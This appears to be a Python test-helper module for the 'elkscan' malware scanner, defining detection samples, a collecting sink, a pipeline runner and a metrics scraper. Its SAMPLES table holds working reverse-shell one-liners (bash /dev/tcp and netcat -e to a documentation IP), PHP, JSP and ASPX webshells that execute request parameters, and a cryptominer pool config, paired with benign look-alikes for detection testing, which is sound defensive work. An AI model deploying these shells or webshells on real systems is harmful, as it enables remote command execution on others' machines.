"""Public helpers for testing elkscan plugins (also a pytest plugin, so nothing needs importing).

- ``eicar()`` builds the EICAR test string at run time, so no repository holds it.
- ``write_samples(directory)`` writes ``SAMPLES``: harmless files that the bundled rules detect, and
  benign look-alikes that they must not.
- ``run(pipeline, plugins=...)`` runs a real session with a fresh plugin manager and returns every
  record the sinks saw, through a ``Collector`` sink added to the pipeline.
- ``scrape(session)`` reads a running session's metrics endpoint as Prometheus does.
"""

from __future__ import annotations

import threading
import urllib.request
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import attrs

from .canary import eicar
from .components import Sink
from .hookspecs import hookimpl
from .model import Record
from .pipeline import ComponentSpec, parse_pipeline
from .plugins import make_plugin_manager
from .runner import Session, Summary, build_session

def _j(*parts: str) -> bytes:
    """Join pieces at run time, so this module itself does not match the rules it tests."""
    return "".join(parts).encode()


def _fake_miner_elf() -> bytes:
    """An ELF header followed by the strings of a miner binary; not a runnable program."""
    strings = (_j("--donate", "-level"), _j("--cpu-", "priority"), _j("crypto", "night"),
               _j("stra", "tum+tcp://"))
    return b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"\0".join(strings) + b"\0"


#: file name -> (content, the bundled rule that must detect it, or None for a benign look-alike)
SAMPLES: dict[str, tuple[bytes, str | None]] = {
    "eicar.com": (eicar(), "Multios_TestFile_Eicar"),
    "eicar-lookalike.txt": (b"The EICAR test file is described at eicar.org; it is harmless.\n", None),
    "miner.json": (_j('{"pools": [{"url": "stratum', '+tcp://pool.example.net:3333", ',
                      '"user": "4A1234", "pass": "x"}], "donate-level": 1, "randomx": {"1gb-pages": true}}\n'),
                   "Linux_Cryptominer_StratumConfig"),
    "miner-lookalike.md": (b"Notes: the Stratum protocol is documented elsewhere; donate-level is a "
                           b"setting we never use.\n", None),
    "miner.elf": (_fake_miner_elf(), "Linux_Cryptominer_MinerBinary"),
    "miner-lookalike.elf": (b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"randomx library build\0", None),
    "revshell.sh": (_j("#!/bin/sh\nbash -i >& /dev/", "tcp/203.0.113.7/4444 0>&1\n"),
                    "Linux_ReverseShell_DevTcp"),
    "revshell-lookalike.sh": (b"#!/bin/sh\n# checks that /dev/tcp is disabled in this shell\nbash -i\n",
                              None),
    "netcat.sh": (_j("#!/bin/sh\nnc 203.0.113.7 4444 -", "e /bin/sh\n"), "Linux_ReverseShell_NetcatExec"),
    "netcat-lookalike.sh": (b"#!/bin/sh\nnc -z 203.0.113.7 4444 && echo port open\n", None),
    "webshell.php": (_j("<?php @ev", "al($_PO", "ST['cmd']); ?>\n"), "Php_Webshell_EvalRequest"),
    "webshell-lookalike.php": (b"<?php echo htmlspecialchars($_POST['name'] ?? ''); ?>\n", None),
    "webshell.jsp": (_j('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().ex',
                        'ec(request.getPara', 'meter("cmd")); %>\n'), "Jsp_Webshell_RuntimeExec"),
    "webshell-lookalike.jsp": (b'<% String n = request.getParameter("name"); out.print(n); %>\n', None),
    "webshell.aspx": (_j('<%@ Page Language="Jscript"%><%ev', 'al(Request.Item["pass"],"unsafe");%>\n'),
                      "Asp_Webshell_EvalRequest"),
    "webshell-lookalike.aspx": (b'<%@ Page Language="C#"%><% Response.Write(Request.Form["q"]); %>\n',
                                None),
}


def write_samples(directory: str | Path) -> list[Path]:
    """Write every sample into ``directory`` (created if needed); returns the paths written."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (content, _) in SAMPLES.items():
        path = directory / name
        path.write_bytes(content)
        written.append(path)
    return written


class Collector(Sink):
    """A sink that keeps every record in memory, in order."""

    id = "collect"

    def start(self) -> None:
        self.records: list[Record] = []
        self._lock = threading.Lock()

    def write(self, record: Record) -> None:
        with self._lock:
            self.records.append(record)


class _CollectorPlugin:
    @hookimpl
    def elkscan_register_sinks(self, registry) -> None:
        registry.add(Collector)


@attrs.frozen
class Result:
    """What a test session produced."""

    records: list[Record]
    summary: Summary
    session: Session

    @property
    def detected(self) -> dict[str, list[str]]:
        """Path -> signatures, for records with detections."""
        return {r.target.path: [d.signature for d in r.detections]
                for r in self.records if r.target is not None and r.detections}


def run(pipeline: Mapping[str, Any], *, extra_plugins: Iterable[object] = (), report_clean: bool = False,
        base_dir: str = ".") -> Result:
    """Run ``pipeline`` (a mapping, as the YAML would be) to its end with a collecting sink added.

    Plugins named in its ``plugins:`` are loaded from their entry points, exactly as in production;
    ``extra_plugins`` are registered as well (fake components for a test). A one-shot run, as
    ``elkscan scan``: engines are shown no canary unless the mapping names ``canary_every``.
    """
    parsed = parse_pipeline({"version": 1, "canary_every": 0, **pipeline}, "<test pipeline>", base_dir)
    parsed = attrs.evolve(parsed, sinks=(*parsed.sinks, ComponentSpec("sink", "collect", where="<test>")))
    pm = make_plugin_manager(parsed.plugins)
    pm.register(_CollectorPlugin(), name="elkscan-testing-collector")
    for index, plugin in enumerate(extra_plugins):
        pm.register(plugin, name=f"test-plugin-{index}")
    session = build_session(parsed, pm, report_clean=report_clean)
    summary = session.run()
    collector = next(s for s in session.sinks if isinstance(s, Collector))
    return Result(collector.records, summary, session)


@attrs.frozen
class Scrape:
    """A parsed scrape: metric families by name."""

    families: dict[str, Any]

    def value(self, name: str, **labels: str) -> float | None:
        """The value of the sample ``name`` (``elkscan_files_total``) whose labels include ``labels``."""
        for family in self.families.values():
            for sample in family.samples:
                if sample.name == name and labels.items() <= sample.labels.items():
                    return sample.value
        return None


def scrape(url_or_session: str | Session, openmetrics: bool = True) -> Scrape:
    """GET a metrics endpoint (a URL, or a running session with ``metrics:``) as Prometheus does,
    asking for OpenMetrics, and parse it with prometheus-client's own parser."""
    if isinstance(url_or_session, Session):
        host, _ = url_or_session.pipeline.metrics.address
        url = f"http://{f'[{host}]' if ':' in host else host}:{url_or_session.metrics.port}/metrics"
    else:
        url = url_or_session
    if openmetrics:
        from prometheus_client.openmetrics.parser import text_string_to_metric_families
        accept = "application/openmetrics-text; version=1.0.0; charset=utf-8"
    else:
        from prometheus_client.parser import text_string_to_metric_families
        accept = "text/plain"
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # never an http_proxy
    with opener.open(urllib.request.Request(url, headers={"Accept": accept}), timeout=10) as response:
        text = response.read().decode()
    return Scrape({family.name: family for family in text_string_to_metric_families(text)})
